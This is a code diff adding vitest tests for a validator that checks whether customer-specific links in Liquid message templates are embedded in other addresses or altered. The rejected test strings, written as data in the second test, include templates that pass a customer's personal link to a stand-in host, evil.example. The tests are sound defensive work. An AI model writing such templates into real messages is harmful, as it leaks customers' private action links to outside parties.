@@ -4,6 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { framed, PLAIN } from '../../../src/domain/messages/frame.ts';
 import { renderLetter, samplesOf } from '../../../src/domain/messages/letter.ts';
 import { OverLimit, parseTemplate, placeOf, renderTemplate } from '../../../src/domain/messages/liquid.ts';
+import { templateProblems } from '../../../src/domain/messages/template-problems.ts';
 import { productDefinitions } from '../../support/definitions.ts';
 
 const { messages, messageVariables } = productDefinitions();
@@ -180,5 +181,33 @@ describe('letters', () => {
       place = placeOf(error);
     }
     expect(place).toEqual({ line: 2, column: 13, message: 'output "{{ y" not closed' });
+  });
+});
+
+describe('a link of a customer in a template', () => {
+  const names = ['link', 'quickAction', 'card', 'portal'];
+  const kinds = (text: string): string[] => templateProblems({ text, names }).map(problem => problem.kind);
+  it('stands for itself', () => {
+    for (const text of [
+      '{{ link }}',
+      'Open it:\n{{ link }}',
+      '[Pay now]({{card.link}})',
+      '{% if quickAction.skipOrder %}<a href="{{ quickAction.skipOrder }}">{% endif %}',
+      '{{ card.brand | upcase }}',
+    ])
+      expect([text, kinds(text)]).toEqual([text, []]);
+  });
+  it('is no part of another address, and is not changed', () => {
+    for (const text of [
+      '[Go](https://evil.example/r?t={{ link }})',
+      'https://evil.example/{{ link | url_encode }}',
+      '{{ link | slice: 8, 90 }}',
+      '{% assign x = link %}{{ x }}',
+      '{% capture x %}{{ link }}{% endcapture %}{{ x }}',
+      '{{ portal | json }}',
+      '<a href="https://evil.example/?{{ quickAction.orderNow }}">',
+      '{% for one in quickAction %}{{ one }}{% endfor %}',
+    ])
+      expect([text, kinds(text).includes('ADDRESS')]).toEqual([text, true]);
   });
 });
